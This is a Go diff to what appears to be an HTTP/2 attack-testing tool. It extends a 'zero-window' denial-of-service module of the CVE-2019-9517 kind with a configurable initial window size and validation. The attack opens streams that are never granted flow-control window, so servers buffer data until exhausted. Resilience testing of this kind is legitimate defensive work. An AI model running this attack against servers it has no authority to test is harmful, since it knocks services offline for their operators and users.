@@ -10,7 +10,7 @@ import (
 
 // ZeroWindowParams: zero-window is slowloris on flow control (the
 // CVE-2019-9517 "internal data buffering" class). The client announces
-// SETTINGS_INITIAL_WINDOW_SIZE 0, opens streams with a real request (the
+// SETTINGS_INITIAL_WINDOW_SIZE 0 (or Window), opens streams with a real request (the
 // Request's messages: a Join, so the server has things to send), answers
 // PINGs so it looks alive, and never grants a byte of window: nothing the
 // server writes can leave. A server that buffers what it cannot send
@@ -26,6 +26,10 @@ type ZeroWindowParams struct {
 	Reconnect bool `yaml:"reconnect"`
 	// Streams opened per connection (all held until the end). Default 50.
 	Streams int `yaml:"streams"`
+	// Window is the SETTINGS_INITIAL_WINDOW_SIZE announced: 0 lets nothing
+	// through; a small window lets that much through per stream, then
+	// nothing more (never a WINDOW_UPDATE). Default 0.
+	Window uint32 `yaml:"window"`
 	// Duration bounds the attack. Default 30s.
 	Duration time.Duration `yaml:"duration"`
 	// Rate is streams opened per second per connection; 0 = at once. In a
@@ -43,7 +47,12 @@ func (p *ZeroWindowParams) limits() limits {
 }
 
 // Validate implements Params.
-func (p *ZeroWindowParams) Validate() error { return p.limits().validate("zero-window", "streams") }
+func (p *ZeroWindowParams) Validate() error {
+	if p.Window > 1<<31-1 {
+		return fmt.Errorf("zero-window: window must be within [0, 2147483647], got %d", p.Window)
+	}
+	return p.limits().validate("zero-window", "streams")
+}
 
 // SetRate implements Params.
 func (p *ZeroWindowParams) SetRate(r float64) { p.Rate = r }
@@ -57,8 +66,8 @@ func (p *ZeroWindowParams) Run(ctx context.Context, t Target, req Request, repor
 		return Result{Attack: "zero-window", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
 	}
 	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "zero-window", lim: p.limits(), zeroWindow: true,
-		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
-		describe: fmt.Sprintf("SETTINGS_INITIAL_WINDOW_SIZE 0, %d request streams per connection, no WINDOW_UPDATE ever", p.Streams),
+		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: p.Window}},
+		describe: fmt.Sprintf("SETTINGS_INITIAL_WINDOW_SIZE %d, %d request streams per connection, no WINDOW_UPDATE ever", p.Window, p.Streams),
 		loop: func(ctx context.Context, c *conn) (string, error) {
 			if _, err := c.pace(ctx, p.Streams, p.Rate, func(int) error {
 				_, err := c.openStream(true)
